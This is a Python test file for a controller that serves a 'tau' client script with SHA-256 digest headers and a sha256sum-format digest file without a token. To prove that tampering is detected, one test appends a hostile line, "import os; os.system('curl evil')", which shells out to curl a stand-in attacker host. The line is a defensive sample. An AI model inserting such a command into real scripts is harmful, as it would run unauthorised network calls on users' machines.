"""The pages every replica serves without a token: the `tau` client and its SHA-256."""

from __future__ import annotations

import base64
import hashlib
import pathlib
import subprocess

import pytest
from aiohttp import test_utils, web

from controller import pages

TAU = pathlib.Path(__file__).resolve().parents[3] / "controller" / "assets" / "tau.py"


def _app() -> web.Application:
    app = web.Application()
    script, digest = pages.client_script()
    app.router.add_get("/tau", script)
    app.router.add_get("/tau.sha256", digest)
    return app


async def test_the_client_is_served_with_its_sha256_in_two_headers() -> None:
    """`X-Tau-SHA256` (hex) and `Repr-Digest` (RFC 9530) name the digest of the bytes sent."""
    async with test_utils.TestClient(test_utils.TestServer(_app())) as http:
        resp = await http.get("/tau")
        body = await resp.read()
        raw = hashlib.sha256(body).digest()
        expected = (TAU.read_bytes(), raw.hex(), f"sha-256=:{base64.b64encode(raw).decode()}:")
        actual = (body, resp.headers["X-Tau-SHA256"], resp.headers["Repr-Digest"])
    assert expected == actual


async def test_tau_sha256_checks_a_download_with_sha256sum(tmp_path: pathlib.Path) -> None:
    """`/tau.sha256` is in sha256sum's format: `sha256sum -c` accepts the served script beside
    it and refuses a changed one."""
    async with test_utils.TestClient(test_utils.TestServer(_app())) as http:
        (tmp_path / "tau").write_bytes(await (await http.get("/tau")).read())
        (tmp_path / "tau.sha256").write_bytes(await (await http.get("/tau.sha256")).read())

    def check() -> int:
        return subprocess.run(
            ["sha256sum", "-c", "tau.sha256"], cwd=tmp_path, capture_output=True, check=False
        ).returncode

    intact = check()
    with (tmp_path / "tau").open("ab") as f:
        f.write(b"\nimport os; os.system('curl evil')\n")
    expected = (0, 1)
    assert expected == (intact, check())


@pytest.mark.parametrize("path", ["/tau", "/tau.sha256"], ids=["the script", "its digest"])
async def test_the_client_and_its_digest_need_no_token(path: str) -> None:
    """Both are public: a researcher fetches them before having anything to send."""
    async with test_utils.TestClient(test_utils.TestServer(_app())) as http:
        status = (await http.get(path)).status
    expected = 200
    assert expected == status
